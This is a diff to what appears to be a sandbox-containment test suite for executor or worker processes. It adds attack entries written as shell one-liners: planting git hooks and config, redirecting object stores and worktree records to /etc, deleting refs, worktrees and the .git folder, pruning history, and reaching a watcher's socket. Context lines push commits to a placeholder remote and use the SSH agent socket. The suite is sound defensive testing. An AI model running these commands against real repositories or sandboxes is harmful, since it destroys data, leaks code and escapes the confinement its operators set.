@@ -107,6 +107,46 @@ ATTACKS = (
     ),
     Attack("git", E, "git send-pack", "git send-pack <REMOTE> HEAD:refs/heads/stolen"),
     Attack("git", C, "write the remote's refs by hand", "git rev-parse HEAD > <REMOTE>/refs/heads/stolen"),
+    # git, from an executor, whose git folder is a copy; what it commits comes home to its own branch alone
+    Attack(
+        "git",
+        E,
+        "hooks, settings, excludes, borrowed objects",
+        "c=$(git rev-parse --git-common-dir); echo evil > $c/hooks/pre-commit; git config core.fsmonitor evil;"
+        " echo '*' > $c/info/exclude; echo /etc > $c/objects/info/alternates",
+    ),
+    Attack(
+        "git",
+        E,
+        "other branches, tags, the stash, replaced objects",
+        "git update-ref -d refs/heads/stage-two; git tag -d v1; git tag evil; git stash clear;"
+        " git branch -f main HEAD~0; git replace HEAD HEAD^{tree}",
+    ),
+    Attack(
+        "git", E, "remove the git folder", 'c=$(git rev-parse --git-common-dir); rm -rf "$c"/*; rm -rf <PROJECT>/.git'
+    ),
+    Attack(
+        "git",
+        E,
+        "prune, expire, leave locks",
+        "git reflog expire --expire=now --all; git gc -q --prune=now;"
+        " touch $(git rev-parse --git-common-dir)/packed-refs.lock",
+    ),
+    Attack(
+        "git",
+        E,
+        "remove another worktree, add one",
+        "git worktree remove --force <OTHER>; git worktree add -q <BASE>/mine -b mine;"
+        " rm -rf <PROJECT>/.git/worktrees/two",
+    ),
+    Attack(
+        "git",
+        E,
+        "the worktree's own records turned elsewhere",
+        "d=$(git rev-parse --absolute-git-dir); echo /etc > $d/commondir; echo /etc > $d/gitdir;"
+        " echo x > $d/config.worktree",
+        outside=False,
+    ),
     # results, records, okstra
     Attack("records", R, "another worker's result", "echo evil > <RECORDS>/drops/others/result.md"),
     Attack("records", E, "the same from an executor", "rm -rf <RECORDS>/drops/others"),
@@ -193,6 +233,12 @@ ATTACKS = (
         E,
         "the same by SSH_AUTH_SOCK",
         f'python3 -c "import os,socket;s=socket.socket(socket.AF_UNIX);{_AGENT}"',
+    ),
+    Attack(
+        "door",
+        R,
+        "a watcher's socket in a folder that is shown",
+        f'cd <PROJECT>/.git && python3 -c "{_TALK.format(chr(39) + "watch.sock" + chr(39))}"',
     ),
     Attack(
         "door",
